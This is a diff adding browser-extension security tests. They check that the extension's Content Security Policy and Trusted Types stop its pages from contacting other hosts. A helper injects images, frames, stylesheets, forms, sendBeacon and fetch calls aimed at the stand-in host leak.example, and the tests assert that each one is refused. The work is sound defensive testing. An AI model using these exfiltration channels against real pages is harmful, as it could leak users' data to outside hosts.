@@ -1,0 +1,119 @@
+// Whatever gets into a page of ours, nothing leaves it: the browser itself refuses.
+import type { Page } from 'puppeteer-core';
+import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
+import { type NewsServer, serveNewsWeb } from '../fixtures/news-web/server';
+import { SHIPPED, TESTED } from './harness/builds';
+import { readPopup } from './harness/popup';
+import { Reader } from './harness/reader';
+import { foreignRequests } from './harness/requests';
+import { OWN } from './scenarios';
+
+const LEAK = 'http://leak.example';
+
+let web: NewsServer;
+let reader: Reader;
+
+beforeAll(async () => {
+  web = await serveNewsWeb(OWN.pages);
+  reader = await Reader.open({ build: SHIPPED, web });
+  await readPopup(await reader.clickToolbar(await reader.visit(OWN.first)));
+});
+beforeEach(() => web.takeLog());
+afterAll(async () => {
+  await reader?.close();
+  await web.stop();
+});
+
+/** Puts into a page what would ask another host, each in a way of its own, and waits until each was refused or done. The code runs in that page. */
+function tryToLeak(leak: string): Promise<string[]> {
+  const refused = new Set<string>();
+  document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => refused.add(effectiveDirective));
+  const add = (name: string, attributes: Record<string, string>, text = ''): HTMLElement => {
+    const element = document.createElement(name);
+    element.append(text);
+    try {
+      for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
+    } catch {
+      // The page takes no text as the address of what may run.
+    }
+    document.body.append(element);
+    return element;
+  };
+  add('img', { src: `${leak}/image.png` });
+  add('img', { srcset: `${leak}/set.png 2x` });
+  add('video', { src: `${leak}/film.mp4`, poster: `${leak}/poster.png`, preload: 'auto' });
+  add('iframe', { src: `${leak}/frame` });
+  add('object', { data: `${leak}/object` });
+  add('link', { rel: 'stylesheet', href: `${leak}/style.css` });
+  add('link', { rel: 'prefetch', href: `${leak}/prefetch` });
+  add('link', { rel: 'icon', href: `${leak}/icon.png` });
+  add('style', {}, `body { background: url(${leak}/background.png) }`);
+  document.body.style.backgroundImage = `url(${leak}/own-background.png)`;
+  const form = add('form', { action: `${leak}/form`, method: 'post', target: '_blank' }) as HTMLFormElement;
+  form.submit();
+  navigator.sendBeacon(`${leak}/beacon`, 'text');
+  const asked = [fetch(`${leak}/fetch`, { mode: 'no-cors' }), fetch(`${leak}/post`, { method: 'POST', body: 'text', mode: 'no-cors' })];
+  return Promise.allSettled(asked).then(() => new Promise((done) => setTimeout(() => done([...refused].sort()), 1_000)));
+}
+
+const leaked = (): string[] => foreignRequests(web.takeLog()).filter((request) => request.includes('leak.example'));
+async function openStory(): Promise<Page> {
+  const page = await reader.openOwn(`story.html?url=${encodeURIComponent(OWN.first)}`);
+  await page.waitForSelector('.summary');
+  return page;
+}
+
+test('the story page is drawn, and nothing that is put into it can ask another host', async () => {
+  const page = await openStory();
+  const refused = await page.evaluate(tryToLeak, LEAK);
+  expect(leaked()).toEqual([]);
+  expect(refused).toEqual(expect.arrayContaining(['connect-src', 'form-action', 'frame-src', 'img-src', 'style-src-elem']));
+});
+
+test.each(['popup.html', 'sidepanel.html', 'options.html', 'welcome.html', ...(TESTED === 'chromium' ? ['collector.html'] : [])])(
+  'nor from %s',
+  async (name) => {
+    const page = await reader.openOwn(name);
+    await page.evaluate(tryToLeak, LEAK);
+    expect(leaked()).toEqual([]);
+  },
+);
+
+test('the background asks no other host', async () => {
+  const failed = await reader.inWorker(() =>
+    fetch('http://leak.example/background', { mode: 'no-cors' }).then(
+      () => '',
+      (error: unknown) => String(error),
+    ),
+  );
+  expect(failed).toContain('TypeError');
+  expect(leaked()).toEqual([]);
+});
+
+test('text becomes no markup in pages of ours', async () => {
+  const page = await openStory();
+  const thrown = await page.evaluate(() => {
+    try {
+      document.body.insertAdjacentHTML('beforeend', '<b id="made"></b>');
+      return '';
+    } catch (error) {
+      return String(error);
+    }
+  });
+  const known = await page.evaluate(() => 'trustedTypes' in window);
+  expect(thrown).toContain(known ? 'TypeError' : '');
+});
+
+describe.skipIf(TESTED === 'firefox')('the collector page, which only Chrome has', () => {
+  test('sees what a style attribute hides, and reports nothing that stands in attributes', async () => {
+    const page = await reader.openOwn('collector.html');
+    const seen = await page.evaluate(async () => {
+      let reports = 0;
+      document.addEventListener('securitypolicyviolation', () => reports++);
+      const made = new DOMParser().parseFromString('<body><p style="display: none">a', 'text/html');
+      await new Promise((resolve) => setTimeout(resolve, 200));
+      return [made.querySelector('p')?.style.display, reports];
+    });
+    expect(seen).toEqual(['none', 0]);
+  });
+});
